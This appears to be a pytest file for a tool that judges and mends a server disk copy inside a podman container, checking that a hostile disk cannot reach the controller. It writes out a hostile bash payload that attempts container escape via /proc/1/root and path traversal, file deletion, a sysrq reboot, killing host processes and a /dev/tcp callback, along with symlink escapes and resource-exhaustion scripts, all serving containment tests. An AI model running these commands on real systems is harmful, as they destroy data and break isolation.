"""The disk of a copy judged and mended in place by its own programs, which may be anybody's.

It needs podman and the base image, and no practice site.
"""

import os
import socket
import stat
import subprocess
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path

import pytest

from hikeshi.copies import disk, making, mending, podman, record, work
from hikeshi.copies.record import Copy
from hikeshi.drill import engine
from hikeshi.errors import HikeshiError
from hikeshi.incident import state as states
from hikeshi.incident import store
from hikeshi.site import Site
from tests.drill import copy_site
from tests.drill.copy_site import inside, left

pytestmark = pytest.mark.long

BROKEN = "/etc/ssh/sshd_config.d/60-broken.conf"


def agree(words: Sequence[str], question: str) -> bool:
    return True


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Site]:
    """A site whose one instance runs, with keys for sshd, a data disk and a job that would reboot it."""
    engine.prepare(print)
    copy_site.sweep()
    copy_site.write_site(tmp_path)
    copy_site.make_instance(engine.base_image())
    inside("""
        ssh-keygen -A; mkdir -p /var/spool/cron/atjobs
        printf '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\ncd / || {\n\t echo no\n\t exit 1\n}\nreboot\n' \
            > /var/spool/cron/atjobs/a0000301ffffff
        chown -R daemon:daemon /var/spool/cron/atjobs; chmod 1770 /var/spool/cron/atjobs
        chmod 0700 /var/spool/cron/atjobs/a0000301ffffff
    """)
    yield copy_site.look_there(monkeypatch, tmp_path)
    copy_site.sweep()
    assert left() == []


def taken(site: Site) -> Copy:
    making.take(site, approve=agree)
    (copy,) = record.read_all(site)
    return copy


def subjects(look: disk.DiskLook) -> set[str]:
    return {item.subject for item in look.found}


def test_a_disk_is_judged_and_mended_in_place(site: Site) -> None:
    inside(f"""
        echo 'NoSuchWord yes' > {BROKEN}
        systemctl mask ssh.service; chmod 0700 /etc/ssh; chmod 0644 /etc/ssh/ssh_host_ed25519_key
        echo later > /etc/nologin; chage --expiredate 1 deploy
        echo 'account requisite pam_gone.so' >> /etc/pam.d/sshd
    """)
    copy = taken(site)
    look = disk.judge(site, copy)
    broken = {"config:sshd", "unit:ssh.service", "path:/etc/ssh", "path:/etc/ssh/ssh_host_ed25519_key",
              "access:/etc/nologin", "account:deploy", "access:/etc/pam.d/sshd"}  # fmt: skip
    assert broken <= subjects(look) and not look.unseen
    assert all(item.step.kind == "disk" for item in look.plan.steps)
    (bomb,) = [job for job in look.agenda.jobs if job.kind == "at"]

    done = mending.mend(site, copy, look, holds=[bomb])
    assert not broken & subjects(done.look)
    assert [(item.id, item.result) for item in done.held] == [("at:a0000301ffffff", "held")]
    assert not [job for job in done.look.agenda.jobs if job.kind == "at"]
    told = {item.subject: item.words for item in done.difference}
    assert told["file:/etc/ssh"] == "mode 0700 → 0755" and told["file:/etc/nologin"].startswith("is gone")
    assert "-account requisite pam_gone.so" in done.texts["file:/etc/pam.d/sshd"] and f"file:{BROKEN}" in told
    assert "+PasswordAuthentication no" in done.texts["file:/etc/ssh/sshd_config.d/00-hikeshi.conf"]
    state = states.derive(store.journal(site).records())
    assert state.disks["web1"].data["held"] and "on the disk of copy" in state.items["jobs"].words

    # Called again, as after a kill, nothing is done twice, and all of the difference is told.
    again = mending.mend(site, record.find(site, copy.id), disk.judge(site, copy), holds=[bomb])
    assert not any(item.changed for item in again.steps)
    assert {item.subject for item in again.difference} >= set(told)
    assert all(check.ok for check in making.verify_again(site, copy.id)[1]), "the copy was never written"


# In place of python3 and sh: tries what it can, then does what it was asked for.
HOSTILE = r"""#!/bin/bash
for place in {outside} /proc/1/root{outside} /proc/self/root/../../../../..{outside}; do
    echo owned > "$place/owned"; mkdir -p "$place/made"; rm -rf "$place/victim"
done
chmod 0 /dev/null /dev/urandom /proc/sysrq-trigger
echo b > /proc/sysrq-trigger
head -c 1 /etc/disk > /dev/shm/read && cp /dev/shm/read /etc/leaked
kill -9 {pids}
(exec 3<> /dev/tcp/{address}/{port} && echo home >&3)
mknod /etc/node b 254 0; mount --bind / /mnt; unshare --user true && touch /etc/unshared
chroot / true && touch /etc/chrooted
exec /usr/bin/{real} "$@"
"""


def modes_of_devices() -> list[int]:
    """Return the modes of what the controller and a container both have."""
    return [Path(f"/dev/{name}").stat().st_mode for name in podman.NODES]


class Outside:
    """What the controller has that nothing on a disk may touch: files, services, somebody who listens."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder / "outside"
        self.folder.mkdir()
        (self.folder / "victim").write_text("the controller's\n")
        self.services = [subprocess.Popen(["sleep", "600"]) for _ in range(3)]
        self.listener = socket.create_server(("0.0.0.0", 0))  # noqa: S104 (whoever calls is to be heard)
        self.listener.setblocking(False)
        self.modes = modes_of_devices()

    def assert_untouched(self) -> None:
        """Assert that all of it is as it was, and that nobody called."""
        assert [path.name for path in self.folder.iterdir()] == ["victim"]
        assert (self.folder / "victim").read_text() == "the controller's\n"
        assert all(service.poll() is None for service in self.services), "services keep their process ids"
        assert self.modes == modes_of_devices()
        with pytest.raises(BlockingIOError):
            self.listener.accept()

    def end(self) -> None:
        """End what was started."""
        self.listener.close()
        for service in self.services:
            service.kill()
            service.wait()


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Outside]:
    made = Outside(tmp_path)
    yield made
    made.end()


@contextmanager
def tree_of(site: Site, copy: Copy) -> Iterator[Path]:
    """Have the working copy's disk on the controller, to put on it what no instance may make."""
    work.make(site, copy)
    name = podman.Podman.container(copy, "work")
    yield Path(engine.podman("mount", name))
    engine.podman("umount", name)


def test_a_hostile_disk_cannot_touch_the_controller(site: Site, outside: Outside) -> None:
    folder, port = outside.folder, outside.listener.getsockname()[1]
    pids = " ".join(str(service.pid) for service in outside.services)
    inside(f"""
        chmod 0700 /etc/ssh; echo 'NoSuchWord yes' > {BROKEN}
        mkdir -p /etc/systemd/system; cd /etc/systemd/system
        python3 -c 'for n in range(15000): open(f"{{n:05}}" + 240 * "x" + ".service", "w")'
    """)
    copy = taken(site)
    with tree_of(site, copy) as tree:
        for program, real in (("python3", "python3.11"), ("dash", "real-dash")):
            text = HOSTILE.format(outside=folder, pids=pids, address="10.88.0.1", port=port, real=real)
            if program == "dash":
                (tree / "usr/bin/dash").rename(tree / "usr/bin/real-dash")
            (tree / "usr/bin" / program).unlink(missing_ok=True)
            (tree / "usr/bin" / program).write_text(text)
            (tree / "usr/bin" / program).chmod(0o4755)
        os.mknod(tree / "etc/disk", stat.S_IFBLK | 0o666, Path(__file__).stat().st_dev)
        os.mknod(tree / "etc/kmsg", stat.S_IFCHR | 0o666, os.makedev(1, 11))
        # Where steps write: the role's own file, what it keeps, and a directory above.
        (tree / "etc/ssh/sshd_config.d/00-hikeshi.conf").symlink_to(folder / "victim")
        (tree / "var/lib/hikeshi").symlink_to(folder)
        (tree / "etc/nginx").symlink_to(f"../../../../..{folder}")
        (tree / "etc/sudoers.d/hikeshi-deploy").symlink_to(f"/proc/1/root{folder}/victim")
    look = disk.judge(site, copy)
    assert {"path:/etc/ssh", "config:sshd"} <= subjects(look)
    done = mending.mend(site, copy, look, holds=look.bombs)
    outside.assert_untouched()
    assert "path:/etc/ssh" not in subjects(done.look)
    facts = done.look.facts
    for never in ("leaked", "node", "unshared", "chrooted"):
        assert f"file:/etc/{never}" not in facts, never
    assert facts["file:/etc/ssh/sshd_config.d/00-hikeshi.conf"]["kind"] == "file", "written in the link's place"
    assert all(check.ok for check in making.verify_again(site, copy.id)[1])


LIE = """echo '{"changed": false, "add_host": {"host_name": "x"}, "ansible_facts": {"ansible_connection": "local"}}'"""


@pytest.mark.parametrize(
    ("script", "why"),
    [
        ("exec yes", "said more than"),
        ("exec sleep 1000", "did not end within"),
        ("exit 1", "no step could be taken"),
        (LIE, ""),
    ],
    ids=["talks", "hangs", "fails", "lies"],
)
def test_a_python_that_does_not_serve_ends_in_words(
    script: str, why: str, site: Site, outside: Outside, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One that says no end of things, one that never ends, one that lies, and one that fails."""
    monkeypatch.setattr(podman, "CALL_S", 3)
    inside("chmod 0700 /etc/ssh")
    copy = taken(site)
    with tree_of(site, copy) as tree:
        (tree / "usr/bin/python3").unlink()
        (tree / "usr/bin/python3").write_text(f"#!/bin/bash\n{script}\n")
        (tree / "usr/bin/python3").chmod(0o755)
    look = disk.judge(site, copy)
    if why:
        with pytest.raises(HikeshiError, match=why):
            mending.mend(site, copy, look, holds=[])
    else:
        done = mending.mend(site, copy, look, holds=[])
        assert "path:/etc/ssh" in subjects(done.look), "what it says is not believed"
    outside.assert_untouched()
    assert record.find(site, copy.id).work == "ready"


def test_a_disk_that_fills_the_controller_is_stopped(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    inside("chmod 0700 /etc/ssh")
    copy = taken(site)
    with tree_of(site, copy) as tree:
        (tree / "usr/bin/python3").unlink()
        (tree / "usr/bin/python3").write_text("#!/bin/bash\nwhile :; do echo x >> /full; sleep 0.01; done\n")
        (tree / "usr/bin/python3").chmod(0o755)
    look = disk.judge(site, copy)
    monkeypatch.setattr(podman, "ROOM_LEAST", 1 << 60)  # as if it were nearly full
    with pytest.raises(HikeshiError, match="no step could be taken"):
        mending.mend(site, copy, look, holds=[])
    assert not [name for _, name in left() if "-within-" in name]
